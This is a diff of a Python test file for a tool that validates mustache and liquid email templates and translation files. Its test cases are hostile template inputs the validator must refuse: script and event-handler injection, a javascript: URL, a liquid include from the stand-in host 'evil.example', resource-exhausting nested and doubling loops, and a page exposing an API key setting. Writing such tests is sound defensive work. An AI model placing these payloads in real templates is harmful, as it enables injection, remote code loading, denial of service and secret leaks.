@@ -10,7 +10,6 @@ import sys
 from collections.abc import Mapping
 from pathlib import Path
 
-import msgspec
 import pytest
 
 from tests.unit.compose.orders import BRAND, SEED
@@ -47,11 +46,16 @@ def problems(files: Mapping[str, str | bytes], folder: Path) -> tuple[TemplatePr
         return error.problems
 
 
+ENDLESS = "{% for i in (1..99999999) %}{% for j in (1..99999999) %}x{% endfor %}{% endfor %}"
+DOUBLING = (
+    "{% assign x = 'xxxxxxxxxx' %}{% for i in (1..60) %}{% assign x = x | append: x %}"
+    "{% endfor %}{{ x }}"
+)
 BAD = {
     "a section never closed": (PAGE, "{{#test}}x", 3, 1),
     "a section closed by another": (PAGE, "{{#test}}{{/items}}", 3, 10),
     "a tag never closed": (PAGE, "{{subject", 3, 1),
-    "an attribute never closed": (PAGE, '<a href="{{brand.url}}>x</a>\n<p title="{{subject}}">', 4, 11),
+    "an attribute never closed": (PAGE, '<a href="{{brand.url}}>x\n<p id="{{subject}}">', 4, None),
     "a value in a script": (PAGE, "<script>var x = '{{number}}'</script>", 3, None),
     "a value in an event": (PAGE, '<p onclick="{{number}}">x</p>', 3, None),
     "a value after a scheme that runs": (PAGE, '<a href="javascript:{{number}}">x</a>', 3, None),
@@ -74,10 +78,8 @@ BAD = {
     "a remote file in liquid": (SHOP, "{% include 'https://evil.example/x' %}", 3, None),
     "liquid in a script": (SHOP, "<script>var x = {{ order_name }}</script>", 3, None),
     "liquid in an event": (SHOP, '<p onclick="{{ order_name }}">x</p>', 3, None),
-    "an endless loop": (SHOP, "{% for i in (1..99999999) %}{% for j in (1..99999999) %}x"
-                        "{% endfor %}{% endfor %}", None, None),
-    "a text that doubles": (SHOP, "{% assign x = 'xxxxxxxxxx' %}{% for i in (1..60) %}"
-                            "{% assign x = x | append: x %}{% endfor %}{{ x }}", None, None),
+    "an endless loop": (SHOP, ENDLESS, None, None),
+    "a text that doubles": (SHOP, DOUBLING, None, None),
 }  # fmt: skip
 
 
@@ -137,8 +139,7 @@ def test_a_bad_pack_is_refused_with_its_file(
         ('msgid "greeting"\nmsgstr "Danke, {name!"\n', "unpaired"),
         ('msgid "preheader"\nmsgid_plural "preheader"\nmsgstr[0] "{count} Artikel"\n', "2 plural"),
         (
-            'msgid "preheader"\nmsgid_plural "preheader"\nmsgstr[0] "a"\nmsgstr[1] "b"\n'
-            'msgstr[2] "c"\n',
+            'msgid "preheader"\nmsgid_plural "x"\nmsgstr[0] "a"\nmsgstr[1] "b"\nmsgstr[2] "c"\n',
             "plural",
         ),
         ('msgid "preheader"\nmsgstr "{count} Artikel"\n', "msgid_plural"),
@@ -154,19 +155,24 @@ def test_a_bad_translation_is_refused_with_its_place(entry: str, said: str, tmp_
     assert said in found[0].message
 
 
-def test_the_command_line_says_the_same_and_ends_with_one(tmp_path: Path) -> None:
+@pytest.mark.parametrize("verb", ["lint", pytest.param("commit", marks=pytest.mark.slow)])
+def test_the_command_line_says_the_same_and_ends_with_one(verb: str, tmp_path: Path) -> None:
     folder = tmp_path / "mails"
     (folder / "locales").mkdir(parents=True)
     (folder / PAGE).write_text(FRAME % "{{settings.api_key}}")
     settings = {"TWOFIFTY_DATABASE_URL": f"sqlite:///{tmp_path}/a.db", "PATH": os.defpath}
-    for verb in (("lint", str(folder)), ("commit", str(folder))):
-        ran = subprocess.run(
-            [Path(sys.executable).with_name("twofifty"), "templates", *verb],
-            cwd=tmp_path, env=settings, capture_output=True, text=True, timeout=120, check=False,
-        )  # fmt: skip
-        assert ran.returncode == 1
-        assert re.search(rf"{re.escape(PAGE)}\W.*\b3\b.*\b1\b", ran.stdout + ran.stderr)
-        assert "Traceback" not in ran.stdout + ran.stderr
+    ran = subprocess.run(
+        [Path(sys.executable).with_name("twofifty"), "templates", verb, str(folder)],
+        cwd=tmp_path,
+        env=settings,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert ran.returncode == 1
+    assert re.search(rf"{re.escape(PAGE)}\W.*\b3\b.*\b1\b", ran.stdout + ran.stderr)
+    assert "Traceback" not in ran.stdout + ran.stderr
 
 
 # However sloppy
@@ -284,7 +290,7 @@ STRONGEST = tuple(dict.fromkeys((*OWN[:19], *OWN[19:25], *OWN[25:42:3], *OWN[47:
 @pytest.mark.parametrize("engine", ["mustache", "liquid"])
 def test_a_sloppy_page_is_refused_or_harmless(engine: str) -> None:
     pages = mustache_pages() if engine == "mustache" else liquid_pages()
-    check_pages(engine, pages[:: len(pages) // 14], STRONGEST[::8], 5)
+    check_pages(engine, pages[3 :: len(pages) // 9], STRONGEST[::8], 3)
 
 
 @pytest.mark.slow
